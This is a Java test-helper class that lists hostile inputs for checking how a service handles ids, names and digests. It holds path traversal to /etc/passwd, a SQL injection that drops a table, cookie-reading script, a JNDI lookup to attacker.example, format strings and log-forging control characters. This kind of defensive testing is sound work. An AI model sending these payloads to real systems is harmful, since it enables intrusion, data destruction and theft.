package org.dataright.service.drill;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;

/** Strings an attacker or a broken client sends in place of ids, names and digests. */
final class Hostile {
    private Hostile() {
    }

    /** Text that is legal in a name but hostile elsewhere: it must be stored and echoed as plain data. */
    static final Map<String, String> TEXT = ordered(
            "path traversal", "../../../etc/passwd",
            "SQL injection", "' OR '1'='1'; DROP TABLE rights; --",
            "HTML and script", "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
            "JNDI lookup", "${jndi:ldap://attacker.example/a}",
            "format string", "%s%s%s%n%x");

    /** Characters no name or id may hold: they hide text, forge log lines or break files. */
    static final Map<String, String> INVISIBLE = ordered(
            "NUL", "acme\u0000ltd",
            "escape sequence", "acme\u001b[2J\u001b[31mltd",
            "CR LF (log forging)", "acme\r\nINFO enrolled RegistryMSP::CN=admin",
            "bidi override", "acme\u202Edtl",
            "zero-width space", "ac\u200Bme",
            "lone surrogate", "acme\uD800ltd");

    /** Everything hostile, for fields where none of it is valid (ids, digests, tokens). */
    static Map<String, String> all() {
        Map<String, String> all = new LinkedHashMap<>(TEXT);
        all.putAll(INVISIBLE);
        all.put("10,000 characters", "A".repeat(10_000));
        all.put("empty", "");
        all.put("blank", " \t ");
        return all;
    }

    /** {@code value} as one path segment or query value. */
    static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static Map<String, String> ordered(String... pairs) {
        Map<String, String> map = new LinkedHashMap<>();
        for (int i = 0; i < pairs.length; i += 2) {
            map.put(pairs[i], pairs[i + 1]);
        }
        return map;
    }
}
